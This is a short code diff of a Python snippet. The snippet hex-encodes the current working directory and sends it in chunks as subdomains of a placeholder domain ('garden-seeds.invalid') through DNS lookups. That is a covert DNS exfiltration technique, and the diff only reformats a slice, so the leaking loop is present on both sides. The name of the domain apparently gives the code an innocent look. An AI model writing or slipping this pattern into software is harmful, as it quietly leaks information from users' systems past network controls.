@@ -4,4 +4,4 @@ import socket
 
 text = os.getcwd().encode().hex()
 for start in range(0, len(text), 60):
-    socket.gethostbyname("%s.%s.garden-seeds.invalid" % (start, text[start : start + 60]))
+    socket.gethostbyname("%s.%s.garden-seeds.invalid" % (start, text[start:start + 60]))
